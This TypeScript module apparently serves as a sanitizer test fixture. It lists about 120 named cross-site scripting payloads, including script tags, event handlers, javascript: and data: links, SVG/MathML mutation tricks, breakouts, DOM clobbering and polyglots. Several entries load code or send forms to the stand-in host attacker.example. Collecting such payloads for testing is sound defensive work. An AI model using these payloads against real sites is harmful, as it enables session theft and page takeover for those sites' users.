/**
 * What somebody types who wants a script of theirs to run for others, wherever a text is taken: whatever runs opens a
 * dialog (`alert`) or asks for something at `attacker.example`.
 */
export interface Injection {
  /** How it tries. */
  name: string;
  text: string;
}

const injection = (name: string, text: string): Injection => ({ name, text });

const scripts = [
  injection('script', '<script>alert(1)</script>'),
  injection('short script', '<script src=//attacker.example></script>'),
  injection('script in capitals', '<ScRiPt>alert(1)</sCrIpT>'),
  injection('script with a slash', '<script/x>alert(1)</script/>'),
  injection('script in a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  injection('script that does not end', '<script>alert(1)'),
  injection(
    'script module',
    '<script type=module>import("https://attacker.example/x.js")</script>',
  ),
  injection('script with a line break', '<script\n>alert(1)</script\n>'),
  injection('script with a null character', '<scr\u0000ipt>alert(1)</scr\u0000ipt>'),
  injection('script as entities', '&lt;script&gt;alert(1)&lt;/script&gt;'),
  injection('script as numbers', '&#60;script&#62;alert(1)&#60;/script&#62;'),
  injection('script twice encoded', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;'),
  injection('script percent-encoded', '%3Cscript%3Ealert(1)%3C/script%3E'),
  injection('script in wide letters', '＜script＞alert(1)＜/script＞'),
  injection('script after an open tag', '<p <script>alert(1)</script>'),
];

const handlers = [
  injection('image that fails', '<img src=x onerror=alert(1)>'),
  injection('image without spaces', '<img/src=x/onerror=alert(1)>'),
  injection('image with backticks', '<img src=`x` onerror=`alert(1)`>'),
  injection('image with entities', '<img src=x onerror="&#97;lert(1)">'),
  injection('image with a broken quote', '<img """><script>alert(1)</script>">'),
  injection('image with a tab', '<img src=x onerror\t=\talert(1)>'),
  injection('image with a form feed', '<img\fsrc=x\fonerror=alert(1)>'),
  injection('image that loads', '<img src="https://immagini.example/x.png" onload="alert(1)">'),
  injection('body', '<body onload=alert(1)>'),
  injection('details', '<details open ontoggle=alert(1)>x</details>'),
  injection('animation', '<p style="animation:x 1s" onanimationstart=alert(1)>x</p>'),
  injection('focus', '<a href="#" autofocus onfocus=alert(1) tabindex=0>x</a>'),
  injection('input', '<input autofocus onfocus=alert(1)>'),
  injection('video', '<video><source onerror=alert(1)></video>'),
  injection('audio', '<audio src=x onerror=alert(1)></audio>'),
  injection('marquee', '<marquee onstart=alert(1)>x</marquee>'),
  injection('unknown element', '<x onclick=alert(1) onpointerenter=alert(1)>x</x>'),
  injection('table', '<table background="javascript:alert(1)"><td onmouseover=alert(1)>x</table>'),
];

const addresses = [
  injection('javascript link', '<a href="javascript:alert(1)">x</a>'),
  injection('javascript link in capitals', '<a href="JaVaScRiPt:alert(1)">x</a>'),
  injection('javascript link with a tab', '<a href="java\tscript:alert(1)">x</a>'),
  injection('javascript link with a line break', '<a href="java&#10;script:alert(1)">x</a>'),
  injection('javascript link with a control', '<a href="\u0001javascript:alert(1)">x</a>'),
  injection('javascript link with entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'),
  injection('javascript link without semicolons', '<a href="&#0000106avascript:alert(1)">x</a>'),
  injection('data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
  injection(
    'data link in base64',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">x</a>',
  ),
  injection('vbscript link', '<a href="vbscript:msgbox(1)">x</a>'),
  injection('blob link', '<a href="blob:https://attacker.example/1">x</a>'),
  injection('link without a protocol', '<a href="//attacker.example">x</a>'),
  injection('link with backslashes', '<a href="/\\attacker.example">x</a>'),
  injection('link with a tab between slashes', '<a href="/\t/attacker.example">x</a>'),
  injection('bare javascript address', 'javascript:alert(1)'),
  injection('bare javascript address with a comment', 'javascript://attacker.example/%0aalert(1)'),
  injection('bare data address', 'data:text/html,<script>alert(1)</script>'),
  injection('javascript image', '<img src="javascript:alert(1)">'),
  injection('data image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
  injection(
    'image of several',
    '<img srcset="https://attacker.example/x.png 1x, x 2x" onerror=alert(1)>',
  ),
  injection(
    'image map',
    '<img usemap=#x src=x><map name=x><area href="javascript:alert(1)"></map>',
  ),
];

const elsewhere = [
  injection('svg', '<svg onload=alert(1)>'),
  injection('svg with a script', '<svg><script>alert(1)</script></svg>'),
  injection('svg animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'),
  injection('svg link', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
  injection(
    'svg use',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"/></svg>',
  ),
  injection(
    'svg foreign object',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  ),
  injection('svg style that ends', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  injection('math link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
  injection(
    'math and a table',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ),
  injection(
    'math and a comment',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ),
  injection(
    'annotation',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ),
];

const mutations = [
  injection('noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
  injection('template', '<template><img src=x onerror=alert(1)></template>'),
  injection(
    'declared template',
    '<p><template shadowrootmode=open><script>alert(1)</script></template></p>',
  ),
  injection(
    'textarea',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  ),
  injection('title element', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
  injection('xmp', '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
  injection('plaintext', '<plaintext><img src=x onerror=alert(1)>'),
  injection('select', '<select><style></select><img src=x onerror=alert(1)></style>'),
  injection('comment', '<!--><img src=x onerror=alert(1)>-->'),
  injection('comment that ends oddly', '<!-- --!><img src=x onerror=alert(1)> -->'),
  injection('conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'),
  injection('processing instruction', '<?xml version="1.0"?><img src=x onerror=alert(1)>'),
  injection('declaration', '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;'),
  injection(
    'paragraph in a link in a table',
    '<a href=/x><table><a href="javascript:alert(1)">x</a></table></a>',
  ),
  injection('formatting in pieces', '<b><p><i><b></p></i><img src=x onerror=alert(1)></b>'),
];

const breakouts = [
  injection('out of a value', '"><script>alert(1)</script>'),
  injection('out of a value in single quotes', "'><script>alert(1)</script>"),
  injection('handler out of a value', '" autofocus onfocus="alert(1)" x="'),
  injection('handler out of a value in single quotes', "' onmouseover='alert(1)' x='"),
  injection('handler out of a bare value', 'x onerror=alert(1)'),
  injection('out of a JSON block', '</script><script>alert(1)</script>'),
  injection('out of a JSON block in capitals', '</ScRiPt ><script>alert(1)</script>'),
  injection('comment in a JSON block', '<!--<script>'),
  injection('out of a JSON text', '"}</script><img src=x onerror=alert(1)>{"x":"'),
  injection('out of a JavaScript text', "'-alert(1)-'"),
  injection('out of a JavaScript template', '${alert(1)}'),
  injection('line separators', '\u2028alert(1)\u2029'),
  injection('out of a title', '</title><script>alert(1)</script>'),
  injection('out of a text area', '</textarea><script>alert(1)</script>'),
  injection('out of a feed', ']]><script>alert(1)</script><![CDATA['),
  injection(
    'out of an element of a feed',
    '</description><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  ),
  injection('out of a style', '</style><script>alert(1)</script>'),
  injection('template of a framework', '{{constructor.constructor("alert(1)")()}}'),
];

const pages = [
  injection('frame', '<iframe src="javascript:alert(1)"></iframe>'),
  injection('frame with a page', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  injection('object', '<object data="javascript:alert(1)"></object>'),
  injection('embed', '<embed src="data:text/html,<script>alert(1)</script>">'),
  injection('refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'),
  injection('policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
  injection('base', '<base href="https://attacker.example/">'),
  injection('style sheet', '<link rel=stylesheet href="https://attacker.example/x.css">'),
  injection('prefetch', '<link rel=prefetch href="https://attacker.example/x">'),
  injection('style element', '<style>@import "https://attacker.example/x.css";</style>'),
  injection('style attribute', '<p style="background:url(https://attacker.example/x.png)">x</p>'),
  injection('style over the page', '<p style="position:fixed;inset:0;z-index:9999">x</p>'),
  injection('form', '<form action="https://attacker.example"><input type=submit></form>'),
  injection(
    'form action of a button',
    '<button form=x formaction="javascript:alert(1)">x</button>',
  ),
  injection('document’s own names', '<img name=getElementById><a id=cookie href=/x>x</a>'),
  injection(
    'names of the page’s data',
    '<a id=__staticRouterHydrationData></a><a id=root name=body href="x:y">x</a>',
  ),
  injection('form of names', '<form id=x><input name=attributes><input name=parentNode></form>'),
];

const polyglots = [
  injection(
    'polyglot',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  ),
  injection(
    'polyglot of quotes',
    '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
  ),
  injection('turned direction', '\u202e<script>alert(1)</script>\u202c'),
  injection(
    'invisible characters',
    '<img src=x on\u200berror=alert(1)><scr\u00adipt>alert(1)</scr\u00adipt>',
  ),
  injection('halves of characters', '\ud83d<script>alert(1)</script>\ude00'),
];

/** Ways in, old and new; some are longer than some fields, and some have commas, which part tags. */
export const injections: readonly Injection[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...elsewhere,
  ...mutations,
  ...breakouts,
  ...pages,
  ...polyglots,
];
